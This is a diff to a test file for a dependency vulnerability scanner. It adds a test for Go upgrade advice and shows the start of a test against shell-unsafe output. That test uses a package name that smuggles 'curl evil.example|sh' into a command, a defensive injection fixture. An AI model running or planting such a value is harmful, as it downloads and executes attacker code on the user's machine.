@@ -165,6 +165,20 @@ describe('ng: one finding per vulnerability, package, version and file', () => {
     expect(say({ format: 'uv-lock', path: 'uv.lock' })).toContain('`uv add "jinja2>=2.10.1"`');
   });
 
+  it('knows that `go get` does not change what is replaced', () => {
+    const module = { name: 'golang.org/x/crypto', version: 'v0.1.0' };
+    const word = report({ ...module, ecosystem: 'Go', ids: ['GO-2023-2402'], fixed: ['0.17.0'] });
+    const answers = answersOf({ osv: { reports: [word], ecosystems: ['Go'] } });
+    const say = (range: string) => {
+      const requirements = [{ name: module.name, kind: 'prod' as const, range, target: 0 }];
+      const projects = [{ manifest: 'go.mod', requirements }];
+      const go = { ecosystem: 'Go', format: 'go-mod', path: 'go.mod', packages: [module], projects } as const;
+      return one(findingsOf(go, [], { answers })).message;
+    };
+    expect(say('v0.1.0')).toContain('`go get golang.org/x/crypto@v0.17.0`.');
+    expect(say('v0.54.0')).toContain('write into go.mod golang.org/x/crypto 0.17.0 or later');
+  });
+
   it('never prints a command that a shell would take apart', () => {
     const name = 'lodash;curl evil.example|sh';
     const findings = findingsOf({ packages: [{ name, version: '1.0.0' }] }, [
